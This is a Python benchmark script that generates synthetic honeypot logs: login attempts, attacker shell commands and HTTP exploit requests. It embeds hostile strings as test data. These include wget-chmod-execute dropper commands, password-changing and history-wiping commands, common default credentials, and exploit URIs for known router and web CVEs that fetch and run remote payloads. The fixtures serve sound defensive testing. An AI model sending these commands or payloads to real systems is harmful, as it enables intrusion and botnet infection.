#!/usr/bin/python3
"""report_gen.py - a realistic, reproducible event data set for bench/report.sh.

    report_gen.py N OUTDIR D0 [SEED]

writes exactly N events over the 7 UTC days from D0 (YYYY-MM-DD) both as
OUTDIR/log/events-YYYY-MM-DD.jsonl (what the sensor's jsonl output writes,
one file per day, compact JSON in the sensor's field order) and into
OUTDIR/hanipo.sqlite with the schema of src/store/sqlite.c, read from that
file so the two can never drift apart.  Same N, D0 and SEED: same bytes.

Design, for speed (10 M events in a few minutes with the stdlib only):
  - every attacker-chosen string is JSON-encoded once, into a pool; an event
    is a few string concatenations, never json.dumps;
  - skewed choices (a few IPs, usernames, commands dominate, with a long
    tail) are idx = int(len * random() ** k), no per-draw weight tables;
  - the rows go in with executemany in 200k-row transactions with
    journal_mode=OFF and synchronous=OFF, and the indexes are created after
    the load (the same indexes, built once instead of row by row); the file
    is switched to WAL at the end, as the sensor leaves it.

The mix is sessions: scans (connect + closed), SSH and Telnet logins (some
succeed, then commands and downloads), HTTP exploits (uri, attack classes,
CVEs, OWASP IoT, user agent; TLS hellos with JA3/JA4 on 443/8443).  The
time of event i is a daily wave over the 7 days, and the port mix changes
per day (Satori-style waves on 52869 and 37215, an Ethereum sweep on 8545),
so the per-day port series are not flat.
"""
import calendar
import hashlib
import json
import math
import os
import random
import re
import sqlite3
import sys
import time
from bisect import bisect_right

DAY_US = 86400 * 1000000
SENSOR = "bench"
DST_IP = "198.51.100.10"


def q(s):
    """A JSON string literal, as the sensor writes it (UTF-8, not \\u-escaped)."""
    return json.dumps(s, ensure_ascii=False)


def jl(v):
    """Compact JSON of a list (the sensor writes no spaces)."""
    return json.dumps(v, ensure_ascii=False, separators=(",", ":"))


def skew(rnd, n, k):
    """An index in [0, n) that favours small indexes (k > 1: stronger)."""
    return int(n * rnd() ** k)


# ---- source addresses -------------------------------------------------------

# (cc, country, weight, [(asn, org), ...])
COUNTRIES = [
    ("CN", "China", 22, [(4134, "CHINANET-BACKBONE"), (4837, "CHINA UNICOM China169 Backbone"),
                         (45090, "Shenzhen Tencent Computer Systems Company Limited"),
                         (37963, "Hangzhou Alibaba Advertising Co.,Ltd.")]),
    ("US", "United States", 18, [(14061, "DIGITALOCEAN-ASN"), (16509, "AMAZON-02"), (396982, "GOOGLE-CLOUD-PLATFORM"),
                                 (8075, "MICROSOFT-CORP-MSN-AS-BLOCK"), (6939, "HURRICANE"), (63949, "Akamai Connected Cloud")]),
    ("BR", "Brazil", 7, [(28573, "Claro NXT Telecomunicacoes Ltda"), (18881, "TELEFONICA BRASIL S.A")]),
    ("IN", "India", 7, [(9829, "National Internet Backbone"), (45609, "Bharti Airtel Ltd. AS for GPRS Service")]),
    ("RU", "Russia", 6, [(12389, "PJSC Rostelecom"), (49505, "JSC Selectel")]),
    ("VN", "Vietnam", 5, [(7552, "Viettel Group"), (45899, "VNPT Corp")]),
    ("KR", "South Korea", 5, [(4766, "Korea Telecom"), (9318, "SK Broadband Co Ltd")]),
    ("TW", "Taiwan", 4, [(3462, "Data Communication Business Group")]),
    ("ID", "Indonesia", 3, [(7713, "PT Telekomunikasi Indonesia")]),
    ("DE", "Germany", 4, [(24940, "Hetzner Online GmbH"), (51167, "Contabo GmbH")]),
    ("NL", "Netherlands", 4, [(202425, "IP Volume inc"), (14061, "DIGITALOCEAN-ASN")]),
    ("SG", "Singapore", 3, [(16509, "AMAZON-02"), (45102, "Alibaba (US) Technology Co., Ltd.")]),
    ("HK", "Hong Kong", 3, [(4760, "HKT Limited"), (133199, "SonderCloud Limited")]),
    ("JP", "Japan", 2, [(2516, "KDDI CORPORATION"), (4713, "NTT Communications Corporation")]),
    ("FR", "France", 2, [(16276, "OVH SAS")]),
    ("GB", "United Kingdom", 2, [(5089, "Virgin Media Limited")]),
    ("IR", "Iran", 1, [(58224, "Iran Telecommunication Company PJS")]),
    ("EG", "Egypt", 1, [(8452, "TE-AS")]),
    ("MX", "Mexico", 1, [(8151, "UNINET")]),
]

FIRST_OCTETS = [1, 2, 5, 14, 27, 31, 36, 39, 42, 45, 46, 49, 58, 59, 60, 61, 77, 78, 79, 80, 81, 82, 83,
                85, 87, 89, 91, 92, 93, 94, 95, 101, 103, 106, 110, 111, 112, 113, 114, 115, 116, 117, 118,
                119, 120, 121, 122, 123, 124, 125, 139, 141, 143, 146, 147, 152, 154, 157, 159, 161, 162,
                164, 165, 167, 170, 171, 175, 176, 177, 178, 179, 180, 181, 182, 183, 185, 186, 187, 188,
                189, 190, 191, 193, 194, 195, 197, 200, 201, 202, 203, 210, 211, 212, 213, 217, 218, 219,
                220, 221, 222, 223]


def make_sources(rnd, n):
    """n distinct source addresses, each with its geo fields as a JSON fragment."""
    total = sum(c[2] for c in COUNTRIES)
    seen, out = set(), []
    while len(out) < n:
        if rnd.random() < 0.02:
            ip = "2a0%d:%x:%x::%x" % (rnd.randrange(1, 10), rnd.randrange(1, 65536),
                                      rnd.randrange(65536), rnd.randrange(1, 65536))
        else:
            ip = "%d.%d.%d.%d" % (rnd.choice(FIRST_OCTETS), rnd.randrange(256), rnd.randrange(256),
                                  rnd.randrange(1, 255))
        if ip in seen:
            continue
        seen.add(ip)
        w = rnd.random() * total
        for cc, name, weight, asns in COUNTRIES:
            w -= weight
            if w < 0:
                break
        asn, org = asns[skew(rnd.random, len(asns), 1.5)]
        geo = ',"src_cc":%s,"src_country":%s,"src_asn":%d,"src_as_org":%s' % (q(cc), q(name), asn, q(org))
        out.append((ip, q(ip), geo))
    return out


# ---- ports and services -----------------------------------------------------

# port -> (kind, base weight); kind: ssh, telnet, http, https, iot (HTTP exploit via the trap), scan
PORTS = {
    22: ("ssh", 18), 2222: ("ssh", 4), 23: ("telnet", 14), 2323: ("telnet", 5), 80: ("http", 10),
    8080: ("http", 6), 443: ("https", 4), 8443: ("https", 1), 8000: ("http", 2), 8081: ("http", 1),
    8888: ("http", 1), 52869: ("iot", 3), 37215: ("iot", 3), 7001: ("iot", 1), 8545: ("iot", 1),
    5555: ("scan", 3), 445: ("scan", 6), 3389: ("scan", 5), 1433: ("scan", 2), 3306: ("scan", 2),
    5900: ("scan", 2), 6379: ("scan", 2), 5038: ("scan", 1), 21: ("scan", 2), 25: ("scan", 1),
    53: ("scan", 1), 111: ("scan", 1), 135: ("scan", 1), 139: ("scan", 1), 161: ("scan", 1),
    1723: ("scan", 1), 5060: ("scan", 2), 9200: ("scan", 1), 11211: ("scan", 1), 27017: ("scan", 1),
    81: ("http", 1), 8088: ("http", 1), 9000: ("scan", 1), 60001: ("scan", 1), 10000: ("scan", 1),
}


def day_port_tables():
    """Per-day cumulative weight tables: waves on some ports on some days."""
    waves = {2: {52869: 12, 37215: 8}, 3: {52869: 6, 37215: 10}, 5: {8545: 8}, 6: {5555: 6}}
    ports = sorted(PORTS)
    tables = []
    for d in range(7):
        acc, cum = 0.0, []
        for p in ports:
            acc += PORTS[p][1] + waves.get(d, {}).get(p, 0)
            cum.append(acc)
        tables.append((cum, acc))
    return ports, tables


# ---- credentials --------------------------------------------------------------

USERNAMES = ["root", "admin", "user", "test", "ubuntu", "guest", "support", "oracle", "postgres", "pi",
             "ftpuser", "git", "administrator", "default", "ubnt", "supervisor", "service", "mysql",
             "deploy", "hadoop", "telecomadmin", "PlcmSpIp", "daemon", "nagios", "minecraft", "steam",
             "centos", "debian", "es", "elastic", "sa", "tomcat", "jenkins", "docker", "vagrant", "www",
             "web", "dev", "teamspeak", "ts3", "solana", "sol", "validator", "hive", "kafka", "zabbix"]
PASSWORDS = ["123456", "admin", "password", "root", "12345", "1234", "123456789", "12345678", "qwerty",
             "111111", "1q2w3e4r", "P@ssw0rd", "abc123", "xc3511", "vizxv", "888888", "default", "support",
             "admin123", "toor", "raspberry", "ubnt", "Zte521", "hi3518", "xmhdipc", "7ujMko0admin",
             "juantech", "changeme", "passw0rd", "1qaz2wsx", "test", "guest", "user", "666666", "000000",
             "admintelecom", "PlcmSpIp", "CenturyL1nk", "Huawei@123", "Admin@123", "root123", "qwe123",
             "letmein", "welcome", "dragon", "iloveyou", "monkey", "123123", "password1", "1234567890"]


def read_known_creds(path):
    """(user, password, device, [botnets]) from data/knowledge/credentials.tsv (exact pairs only)."""
    out = []
    try:
        with open(path, encoding="utf-8") as f:
            for line in f:
                line = line.rstrip("\n")
                if not line or line.startswith("#") or "\\" in line:
                    continue
                parts = line.split("\t")
                if len(parts) != 4 or "*" in (parts[0], parts[1]):
                    continue
                bots = [] if parts[3] == "-" else [b for b in parts[3].split(",") if b]
                out.append((parts[0], parts[1], parts[2], bots))
    except OSError:
        pass
    return out


def make_creds(rnd, known):
    """JSON pools: known pairs (user, password, cred_* fragment), and separate username /
    password pools with a long tail for the rest."""
    kn = []
    seen = set()
    for u, p, dev, bots in known:
        if (u, p) in seen:
            continue
        seen.add((u, p))
        kn.append((q(u), q(p),
                   ',"cred_device":%s,"cred_botnets":%s,"cred_match":"pair"' % (q(dev), jl(bots))))
    users = [q(u) for u in USERNAMES] + [q("user%d" % i) for i in range(3000)]
    words = ["admin", "pass", "qwerty", "server", "linux", "root", "test", "hello", "love", "master"]
    pw = [q(p) for p in PASSWORDS]
    pw += [q("%s%d" % (words[i % len(words)], rnd.randrange(100000))) for i in range(30000)]
    return kn, users, pw


# ---- commands and downloads ------------------------------------------------------

ARCHES = ["arm", "arm5", "arm6", "arm7", "mips", "mpsl", "x86", "x86_64", "ppc", "m68k", "sh4", "spc"]
FAMILIES = [("mirai", "ELF 32-bit LSB executable, ARM, EABI5 version 1 (SYSV), statically linked, stripped"),
            ("gafgyt", "ELF 32-bit MSB executable, MIPS, MIPS-I version 1 (SYSV), statically linked, stripped"),
            ("mozi", "ELF 32-bit LSB executable, MIPS, MIPS-I version 1 (SYSV), statically linked, stripped"),
            ("shell-dropper", "POSIX shell script, ASCII text executable"),
            ("xmrig", "ELF 64-bit LSB executable, x86-64, version 1 (SYSV), statically linked, stripped"),
            ("unknown", "data")]
COMMANDS = ["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "whoami", "uname -m", "free -m", "w", "id",
            "ls -la", "cat /etc/passwd", "cd ~; chattr -ia .ssh; lockr -ia .ssh",
            "echo \"root:Xq8wz1\"|chpasswd|bash", "ps aux", "crontab -l", "nproc", "top",
            "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
            "lscpu | grep Model", "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
            "enable", "system", "shell", "sh", "/bin/busybox ECCHI", "cat /proc/mounts; /bin/busybox ECCHI",
            "echo -e '\\x41\\x4b\\x34\\x37'", "rm -rf /tmp/* /var/tmp/*", "history -c", "export HISTFILE=/dev/null",
            "uname -s -v -n -r -m", "ifconfig", "netstat -an", "which ls", "ls -lh $(which ls)",
            "cat /var/tmp/.var03522123 | head -n 1", "echo 1 > /var/tmp/.var03522123"]


def make_downloads(rnd, n):
    """n download URLs, each with its event fragment (url, shasum, type, family)."""
    out = []
    for i in range(n):
        host = "%d.%d.%d.%d" % (rnd.choice(FIRST_OCTETS), rnd.randrange(256), rnd.randrange(256),
                                rnd.randrange(1, 255))
        fam, ftype = FAMILIES[skew(rnd.random, len(FAMILIES), 1.5)]
        if fam == "shell-dropper":
            url = "http://%s/%s" % (host, rnd.choice(["bins.sh", "t.sh", "wget.sh", "8UsA.sh", "x"]))
        else:
            url = "http://%s/bins/%s.%s" % (host, rnd.choice(["mirai", "sora", "Tsunami", "hoho", "kaiten"]),
                                            rnd.choice(ARCHES))
        sha = hashlib.sha256(url.encode()).hexdigest()
        out.append((url, ',"url":%s,"found_in":"command","tool":"wget","outcome":"fetched","shasum":"%s",'
                    '"size":%d,"type":%s,"family":%s,"status":200' % (q(url), sha, 1000 + rnd.randrange(200000),
                                                                       q(ftype), q(fam))))
    return out


def make_commands(rnd, downloads):
    """Command pool: the common recon commands, then droppers naming download URLs."""
    out = [q(c) for c in COMMANDS]
    for url, _ in downloads:
        name = url.rsplit("/", 1)[1]
        out.append(q("cd /tmp || cd /var/run || cd /mnt; wget %s; chmod 777 %s; ./%s ssh" % (url, name, name)))
    return out


# ---- HTTP, TLS, SSH fingerprints ----------------------------------------------------

# (method, uri, rule, attack classes, cves, owasp iot, weight)
HTTP = [
    ("GET", "/", None, [], [], None, 30),
    ("GET", "/favicon.ico", None, [], [], None, 5),
    ("GET", "/robots.txt", None, [], [], None, 3),
    ("GET", "/.env", "dotenv", ["info-disclosure"], [], None, 6),
    ("GET", "/.git/config", "git-config", ["info-disclosure"], [], None, 3),
    ("POST", "/ctrlt/DeviceUpgrade_1", "huawei-hg532", ["command-injection", "rce"], ["CVE-2017-17215"], "I3", 8),
    ("GET", "/picsdesc.xml", "realtek-picsdesc", ["recon"], ["CVE-2014-8361"], "I2", 5),
    ("POST", "/picsdesc.xml", "realtek-upnp", ["command-injection", "rce"], ["CVE-2014-8361"], "I2", 4),
    ("POST", "/GponForm/diag_Form?images/", "gpon", ["command-injection", "rce"],
     ["CVE-2018-10561", "CVE-2018-10562"], "I3", 4),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://45.95.147.10/jaws;sh+/tmp/jaws", "jaws-shell",
     ["command-injection", "rce"], [], "I3", 4),
    ("POST", "/boaform/admin/formLogin", "boa-login", ["brute-force"], [], "I1", 3),
    ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", "tplink-archer",
     ["command-injection", "rce"], ["CVE-2023-1389"], "I3", 3),
    ("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "apache-traversal", ["path-traversal", "rce"],
     ["CVE-2021-41773", "CVE-2021-42013"], None, 3),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "phpunit-eval", ["rce"],
     ["CVE-2017-9841"], None, 3),
    ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21",
     "thinkphp", ["rce"], ["CVE-2018-20062", "CVE-2019-9082"], None, 2),
    ("POST", "/HNAP1/", "dlink-hnap", ["command-injection"], ["CVE-2015-2051"], "I3", 2),
    ("GET", "/console/css/%252e%252e%252fconsole.portal", "weblogic-console", ["auth-bypass", "rce"],
     ["CVE-2020-14882", "CVE-2020-14883"], None, 2),
    ("POST", "/", "eth-rpc", ["recon"], [], None, 2),
    ("GET", "/wp-login.php", "wordpress", ["recon"], [], None, 3),
    ("GET", "/solr/admin/info/system?wt=json", "solr", ["recon"], [], None, 1),
    ("GET", "/actuator/health", "spring-actuator", ["recon"], [], None, 1),
    ("POST", "/api/jsonws/invoke", "liferay", ["deserialization", "rce"], ["CVE-2020-7961"], None, 1),
    ("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
     "netgear-setup", ["command-injection", "rce"], [], "I3", 2),
]
USER_AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
               "python-requests/2.31.0", "Hello, world", "Mozila/5.0", "curl/7.88.1", "Go-http-client/1.1",
               "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
               "Hello World", "Wget(linux)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
               "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36"]
TLS = [("771,4865-4866-4867-49195-49199-49196-49200-52393-52392-49171-49172-156-157-47-53,0-23-65281-10-11-35-16-5-13-18-51-45-43-27-17513,29-23-24,0",
        "cd08e31494f9531f560d64c695473da9", "t13d1516h2_8daaf6152771_02713d6af862", "Chrome"),
       ("771,49195-49199-49196-49200-52393-52392-49161-49171-49162-49172-156-157-47-53-49170-10-4865-4867-4866,0-5-10-11-13-65281-18-43-51,29-23-24-25,0",
        "19e29534fd49dd27d09234e639c4057e", "t13d1911h1_1c8bf3fd5b3e_e40da29ec8d7", "Go net/http"),
       ("771,4866-4867-4865-49196-49200-159-52393-52392-52394-49195-49199-158-49188-49192-107-49187-49191-103-49162-49172-57-49161-49171-51-157-156-61-60-53-47-255,0-11-10-35-22-23-13-43-45-51,29-23-30-25-24,0-1-2",
        "473cd7cb9faa642487833865d516e578", "t13d3112h2_e8f1e7e78f70_6bebaf5329ac", "python requests / OpenSSL 1.1.1"),
       ("769,47-53-5-10-49161-49162-49171-49172-50-56-19-4,0-10-11,23-24-25,0",
        "2d8bf3ee0b7eb6b1e2a4f7a6de3e10c2", "t10d1403h1_4b22cbed5bed_9e4d4cc4f3c9", "unknown"),
       ("771,49199-49195-49200-49196-158-159-52393-52392-49171-49161-49172-49162-51-57-156-157-47-53-10,65281-0-11-10-13-16,29-23-24-25,0",
        "e7d705a3286e19ea42f587b344ee6865", "t12d1910h2_9d64c8bb9e35_d41ae481755e", "zgrab2")]
HASSH = [("92674389fa1e47a27ddd8d9b63ecd42b", "Go x/crypto/ssh"), ("b5752e36ba6c5979a575e43178908adf", "libssh 0.9"),
         ("ec7378c1a92f5a8dde7e8b7a1ddf33d1", "OpenSSH 7.4"), ("472b5de333ad665af5cbf10ff892c4df", "OpenSSH 9.2p1"),
         ("af8a7c6a5b4fe3b7f8fb8a5a0e5ad0d7", "paramiko 2.x"), ("06046964c022c6407d15a27b12a6a4fb", "PuTTY")]
SSH_VERSIONS = ["SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-OpenSSH_7.4", "SSH-2.0-OpenSSH_9.2p1",
                "SSH-2.0-paramiko_2.11.0", "SSH-2.0-PuTTY_Release_0.78"]


def make_http():
    """(cumulative weights, total, [fragment]) for http.request."""
    cum, acc, frags = [], 0, []
    for method, uri, rule, classes, cves, owasp, weight in HTTP:
        f = ',"method":%s,"uri":%s,"uri_decoded":%s,"version":"HTTP/1.1","host":"%s"' % (
            q(method), q(uri), q(uri), DST_IP)
        frags.append((f, rule, classes, cves, owasp))
        acc += weight
        cum.append(acc)
    return cum, acc, frags


# ---- the store ------------------------------------------------------------------------

C_STRING = r'"((?:[^"\\]|\\.)*)"'


def header_macros(path):
    """The string macros of a C header: {NAME: value} for #define NAME "..." (continued lines joined)."""
    with open(path, encoding="utf-8") as f:
        text = f.read().replace("\\\n", " ")
    macros = {}
    for m in re.finditer(r"^#define\s+(\w+)\s+((?:\s*" + C_STRING + r")+)\s*$", text, re.M):
        macros[m.group(1)] = "".join(re.findall(C_STRING, m.group(2)))
    return macros


def read_schema(src):
    """The statements of schema_sql in src/store/sqlite.c: (page size and tables, indexes), the other
    PRAGMAs dropped.  Macros from src/store/sqlite.h in it are expanded."""
    with open(src, encoding="utf-8") as f:
        text = f.read()
    start = text.index("schema_sql =")
    end = text.index('";\n', start) + 2
    macros = header_macros(os.path.join(os.path.dirname(src), "sqlite.h"))
    parts = []
    for m in re.finditer(C_STRING + r"|\b(HP_\w+)\b", text[start:end]):
        if m.group(2) is None:
            parts.append(m.group(1))
        elif m.group(2) in macros:
            parts.append(macros[m.group(2)])
        else:
            raise SystemExit("report_gen: unknown macro %s in the schema of %s" % (m.group(2), src))
    sql = "".join(parts)
    stmts = [s.strip() for s in sql.split(";") if s.strip()]
    # The page size is the one PRAGMA that shapes the file (the others set how the sensor writes).
    tables = [s for s in stmts if s.upper().startswith("PRAGMA PAGE_SIZE")]
    tables += [s for s in stmts if not s.upper().startswith(("PRAGMA", "CREATE INDEX"))]
    indexes = [s for s in stmts if s.upper().startswith("CREATE INDEX")]
    if not indexes or not any("CREATE TABLE IF NOT EXISTS events" in s for s in tables):
        raise SystemExit("report_gen: cannot find the events schema in " + src)
    return tables, indexes


class Store:
    """JSONL day files and the SQLite table, filled in batches."""

    def __init__(self, outdir, d0_us, schema):
        self.logdir = os.path.join(outdir, "log")
        os.makedirs(self.logdir, exist_ok=True)
        self.d0_us = d0_us
        self.day = -1
        self.f = None
        self.lines = []
        self.rows = []
        self.indexes = schema[1]
        self.db = sqlite3.connect(os.path.join(outdir, "hanipo.sqlite"), isolation_level=None)
        self.db.execute("PRAGMA journal_mode=OFF")
        self.db.execute("PRAGMA synchronous=OFF")
        self.db.execute("PRAGMA cache_size=-131072")
        for s in schema[0]:
            self.db.execute(s)

    def add(self, ts, line, row):
        day = (ts - self.d0_us) // DAY_US
        if day != self.day:
            self.flush_lines()
            if self.f:
                self.f.close()
            self.day = day
            name = time.strftime("events-%Y-%m-%d.jsonl", time.gmtime(ts // 1000000))
            self.f = open(os.path.join(self.logdir, name), "a", encoding="utf-8")
        self.lines.append(line)
        self.rows.append(row)
        if len(self.rows) >= 200000:
            self.flush()

    def flush_lines(self):
        if self.lines:
            self.lines.append("")
            self.f.write("\n".join(self.lines))
            self.lines = []

    def flush(self):
        self.flush_lines()
        if self.rows:
            self.db.execute("BEGIN")
            self.db.executemany("INSERT INTO events(ts,eventid,session,protocol,src_ip,src_port,dst_port,data)"
                                " VALUES(?,?,?,?,?,?,?,?)", self.rows)
            self.db.execute("COMMIT")
            self.rows = []

    def close(self):
        self.flush()
        if self.f:
            self.f.close()
        for s in self.indexes:
            self.db.execute(s)
        self.db.execute("PRAGMA journal_mode=WAL")
        self.db.close()


# ---- sessions ---------------------------------------------------------------------------

class Done(Exception):
    pass


class Gen:
    def __init__(self, n, d0_us, seed, store, creds_path):
        self.n = n
        self.count = 0
        self.d0_us = d0_us
        self.store = store
        r = random.Random(seed)
        self.r = r
        self.rnd = r.random
        self.uid = "%016x" % r.getrandbits(64)
        self.sources = make_sources(r, 50000)
        self.ports, self.port_tables = day_port_tables()
        self.known, self.users, self.pws = make_creds(r, read_known_creds(creds_path))
        self.downloads = make_downloads(r, 3000)
        self.commands = make_commands(r, self.downloads)
        self.http_cum, self.http_total, self.http = make_http()
        self.sec = -1
        self.sec_str = ""
        self.nsess = 0

    def ts(self):
        """Time of the next event: a daily wave (density 1 + 0.5 cos) over the 7 days."""
        f = self.count / self.n
        w = 2 * math.pi * 7
        return self.d0_us + int((f + 0.5 * math.sin(w * f) / w) * 7 * DAY_US)

    def emit(self, eventid, hdr, proto, body=""):
        if self.count >= self.n:
            raise Done
        ts = self.ts()
        sec = ts // 1000000
        if sec != self.sec:
            self.sec = sec
            self.sec_str = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec))
        self.count += 1
        line = '{"timestamp":"%s.%06dZ","eventid":"%s","uid":"%s-%d"%s%s}' % (
            self.sec_str, ts % 1000000, eventid, self.uid, self.count, hdr, body)
        s = self.s
        self.store.add(ts, line, (ts, eventid, s[0], proto, s[1], s[2], s[3], line))

    def header(self, proto, service):
        sid, ip, sport, dport = self.s
        return (',"sensor":"%s","session":"%s","protocol":"%s","service":"%s","transport":"tcp","src_ip":%s,'
                '"src_port":%d,"dst_ip":"%s","dst_port":%d' % (SENSOR, sid, proto, service, self.src[1], sport,
                                                             DST_IP, dport))

    def closed(self, hdr, proto, reason="closed"):
        self.emit("session.closed", hdr, proto, ',"duration":%.3f,"bytes_in":%d,"bytes_out":%d,"reason":"%s"' % (
            self.rnd() * 30, self.r.randrange(40, 5000), self.r.randrange(0, 5000), reason))

    def session(self):
        r, rnd = self.r, self.rnd
        day = min(6, self.count * 7 // self.n)
        cum, total = self.port_tables[day]
        port = self.ports[bisect_right(cum, rnd() * total)]
        kind = PORTS[port][0]
        self.nsess += 1
        self.src = self.sources[skew(rnd, len(self.sources), 2.5)]
        self.s = ("%012x" % ((self.nsess * 0x9E3779B97F4A7C15) & 0xFFFFFFFFFFFF), self.src[0],
                  r.randrange(1024, 65536), port)
        if kind in ("ssh", "telnet"):
            proto = kind
        elif kind in ("http", "https"):
            proto = "http"
        else:
            proto = "trap"
        service = "trap" if proto == "trap" else ("web" if proto == "http" else proto)
        hdr = self.header(proto, service)
        self.emit("session.connect", hdr, proto, self.src[2])
        if kind == "scan":
            self.closed(hdr, proto, "eof")
        elif kind in ("ssh", "telnet"):
            self.login_session(hdr, proto, kind == "ssh")
        else:
            self.http_session(hdr, proto, service, kind)

    def login_session(self, hdr, proto, ssh):
        r, rnd = self.r, self.rnd
        if ssh:
            k = skew(rnd, len(HASSH), 1.5)
            self.emit("client.version", hdr, proto, ',"version":%s' % q(SSH_VERSIONS[k]))
            self.emit("client.kex", hdr, proto, ',"hassh":"%s","client":%s' % (HASSH[k][0], q(HASSH[k][1])))
        method = "password" if ssh else "telnet"
        tries = 1 + skew(rnd, 6, 2)
        ok = rnd() < 0.12
        for i in range(tries):
            if rnd() < 0.4 and self.known:
                u, p, cred = self.known[skew(rnd, len(self.known), 2)]
            else:
                u, p, cred = self.users[skew(rnd, len(self.users), 4)], self.pws[skew(rnd, len(self.pws), 3)], ""
            ev = "login.success" if ok and i == tries - 1 else "login.failed"
            self.emit(ev, hdr, proto, ',"username":%s,"password":%s,"method":"%s","attempt":%d%s' % (
                u, p, method, i + 1, cred))
        if ok:
            for _ in range(1 + skew(rnd, 4, 2)):
                self.emit("command.input", hdr, proto, ',"input":%s' % self.commands[skew(rnd, len(self.commands), 2.5)])
            if rnd() < 0.3:
                url, frag = self.downloads[skew(rnd, len(self.downloads), 2)]
                self.emit("session.file_download", hdr, proto, frag)
        self.closed(hdr, proto)

    def http_session(self, hdr, proto, service, kind):
        r, rnd = self.r, self.rnd
        tls = kind == "https"
        if proto == "trap":
            hdr = self.header("http", service)
            proto = "http"
        if tls:
            ja3s, ja3, ja4, client = TLS[skew(rnd, len(TLS), 1.5)]
            self.emit("tls.client_hello", hdr, proto, ',"ja3":"%s","ja3_string":"%s","ja4":"%s","client":%s' % (
                ja3, ja3s, ja4, q(client)))
        for i in range(1 + skew(rnd, 3, 2)):
            f, rule, classes, cves, owasp = self.http[bisect_right(self.http_cum, rnd() * self.http_total)]
            body = [f, ',"user_agent":%s,"body_size":0,"status":200' % q(USER_AGENTS[skew(rnd, len(USER_AGENTS), 1.5)])]
            if rule:
                body.append(',"rule":%s' % q(rule))
            if classes:
                body.append(',"attack_classes":%s' % jl(classes))
            if cves:
                body.append(',"cves":%s' % jl(cves))
            if owasp:
                body.append(',"owasp_iot":"%s"' % owasp)
            body.append(',"tls":%s,"request_no":%d' % ("true" if tls else "false", i + 1))
            self.emit("http.request", hdr, proto, "".join(body))
        self.closed(hdr, proto, "eof")

    def run(self):
        t0 = time.time()
        step = max(1000000, self.n // 10)
        mark = step
        try:
            while True:
                self.session()
                if self.count >= mark:
                    sys.stderr.write("report_gen: %d/%d events (%.0f s)\n" % (self.count, self.n, time.time() - t0))
                    mark += step
        except Done:
            pass


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    if sys.argv[1:] == ["--schema"]:
        # What the data set's store is made of (report.sh and dashboard.sh put it in their cache stamp).
        tables, indexes = read_schema(os.path.join(here, "..", "src", "store", "sqlite.c"))
        print(";\n".join(tables + indexes))
        return
    if len(sys.argv) not in (4, 5):
        raise SystemExit("usage: report_gen.py N OUTDIR D0 [SEED] | report_gen.py --schema")
    n = int(sys.argv[1])
    outdir = sys.argv[2]
    d0 = time.strptime(sys.argv[3], "%Y-%m-%d")
    d0_us = int(calendar.timegm(d0)) * 1000000
    seed = int(sys.argv[4]) if len(sys.argv) == 5 else 7
    schema = read_schema(os.path.join(here, "..", "src", "store", "sqlite.c"))
    store = Store(outdir, d0_us, schema)
    gen = Gen(n, d0_us, seed, store, os.path.join(here, "..", "data", "knowledge", "credentials.tsv"))
    gen.run()
    t = time.time()
    store.close()
    sys.stderr.write("report_gen: %d events, %d sessions; indexes built in %.0f s\n" % (
        gen.count, gen.nsess, time.time() - t))


if __name__ == "__main__":
    main()
